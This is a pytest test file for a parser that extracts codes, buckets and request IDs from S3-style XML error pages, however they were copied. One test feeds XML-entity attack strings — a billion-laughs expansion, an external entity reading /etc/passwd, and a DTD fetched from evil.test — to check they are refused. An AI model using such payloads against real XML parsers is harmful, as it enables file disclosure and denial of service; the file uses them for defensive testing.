"""The error page of S3 gives its code, however it was copied, and nothing in it is ever expanded."""

from __future__ import annotations

import html

import pytest

from lib import error_pages
from lib.error_pages import ErrorCode, ErrorPage

CODE = ErrorCode.NO_SUCH_KEY
REQUEST = "tx0000067a1b2c3d4e5f607-0069142a3c-5f1a2b3c-sgp1b"
HOST = "5f1a2b3c-sgp1b-sgp1-zg02"
CEPH = (
    '<?xml version="1.0" encoding="UTF-8"?><Error><Code>NoSuchKey</Code><Message></Message>'
    f"<BucketName>edrspace</BucketName><RequestId>{REQUEST}</RequestId><HostId>{HOST}</HostId></Error>"
)
TREE = CEPH.split("?>")[1].replace("<Message></Message>", "<Message/>").replace("><", ">\n<")
NOTICE = "This XML file does not appear to have any style information associated with it. The document tree is shown below.\n"
WHOLE = ErrorPage(CODE, "NoSuchKey", "edrspace", REQUEST, HOST)
AMAZON = (
    '<Error xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Code>NoSuchKey</Code><Message>The specified key does not '
    "exist.</Message><Key>loc/a &amp; b.pdf</Key><RequestId>4442587FB7D0A2F9</RequestId><HostId>x=</HostId></Error>"
)


def read(text: str) -> ErrorPage:
    page = error_pages.read(text)
    assert page is not None
    return page


@pytest.mark.parametrize(
    "text",
    [
        CEPH,
        f"\ufeff  {CEPH}\n",
        f"I see this:\n{CEPH}\nWhat now?",
        CEPH.replace("><", ">\r\n  <"),
        CEPH.replace('"UTF-8"', '"UTF-16"'),
        html.escape(CEPH),
        html.escape(html.escape(CEPH)),
        CEPH.replace("<", "\\u003c").replace(">", "\\u003e"),
        NOTICE + TREE,
        NOTICE + TREE.replace("<Error>", "▼<Error>").replace("<Code>", "  <Code>"),
        TREE.replace("<Error>", "-<Error>"),
        CEPH.replace("<Error>", '<a:Error xmlns:a="x">').replace("</Error>", "</a:Error>"),
    ],
)
def test_the_page_is_read_however_it_was_copied(text: str) -> None:
    assert read(text) == WHOLE


@pytest.mark.parametrize(
    ("text", "bucket", "request_id"),
    [
        (f"{NOTICE}NoSuchKey\nedrspace\n{REQUEST}\n{HOST}", "edrspace", REQUEST),
        (f"NoSuchKey edrspace {REQUEST} {HOST}", "edrspace", REQUEST),
        (f"NoSuchKeyedrspace{REQUEST}{HOST}", "edrspace", ""),
        ("NoSuchKey", "", ""),
        ("An error occurred: NoSuchKey", "", ""),
    ],
)
def test_the_visible_text_alone_gives_the_code(text: str, bucket: str, request_id: str) -> None:
    page = read(text)
    assert (page.code, page.bucket, page.request_id) == (CODE, bucket, request_id)


@pytest.mark.parametrize("length", range(CEPH.index("</Code>"), len(CEPH) - 1, 7))
def test_a_page_that_was_cut_off_still_gives_its_code(length: int) -> None:
    page = read(CEPH[:length])
    assert (page.code, page.is_cut) == (CODE, True)


def test_half_a_code_is_no_code() -> None:
    assert read("<Error><Code>NoSuch").code is ErrorCode.UNNAMED
    assert read("<Error><Message>").code is ErrorCode.UNNAMED


def test_the_page_of_amazon_names_the_key_and_that_of_ceph_does_not() -> None:
    page = read(AMAZON)
    assert (page.code, page.key, page.names_file) == (CODE, "loc/a & b.pdf", True)
    assert not read(CEPH).names_file


def test_a_resource_names_a_file_only_behind_the_bucket() -> None:
    assert read("<Error><Code>AccessDenied</Code><Resource>/b/a.pdf</Resource></Error>").names_file
    assert not read("<Error><Code>AccessDenied</Code><Resource>/b/</Resource></Error>").names_file


@pytest.mark.parametrize("code", [each for each in ErrorCode if each.value != each.name])
def test_every_code_is_known(code: ErrorCode) -> None:
    assert read(CEPH.replace("NoSuchKey", code)).code is code
    assert read(code).code is code


def test_an_unknown_code_is_kept_as_it_was_said() -> None:
    page = read(CEPH.replace("NoSuchKey", "TeapotShort"))
    assert (page.code, page.said) == (ErrorCode.OTHER, "TeapotShort")
    assert read(CEPH.replace("NoSuchKey", "XML_REFUSED")).code is ErrorCode.UNNAMED


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a SYSTEM "http://evil.test/a.dtd">',
        '<!doctype a [<!ENTITY % b "c">]>',
    ],
)
def test_xml_that_declares_anything_is_refused_unread(declared: str) -> None:
    assert read(f"{declared}<Error><Code>NoSuchKey</Code></Error>") == ErrorPage(ErrorCode.XML_REFUSED)


def test_a_billion_laughs_without_a_declaration_stay_silent() -> None:
    page = read("<Error><BucketName>b</BucketName><Code>&lol;</Code></Error>")
    assert (page.code, page.bucket) == (ErrorCode.UNNAMED, "b")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "edrcontainer1/prescriptions/ab12.pdf",
        "prescriptions/NoSuchKey/a.pdf",
        "<html><body><h1>502 Bad Gateway</h1></body></html>",
        "<!DOCTYPE html><html></html>",
        "<Errors/>",
        "MyNoSuchKeyword",
        "Anita Sharma",
    ],
)
def test_what_is_no_error_page_is_none(text: str) -> None:
    assert error_pages.read(text) is None


def test_only_the_beginning_of_a_long_page_is_looked_at() -> None:
    assert error_pages.read(" " * error_pages.MAX_PAGE + CEPH) is None
    assert read(CEPH.replace("<Message>", f"<Message>{'a' * error_pages.MAX_PAGE}")).is_cut
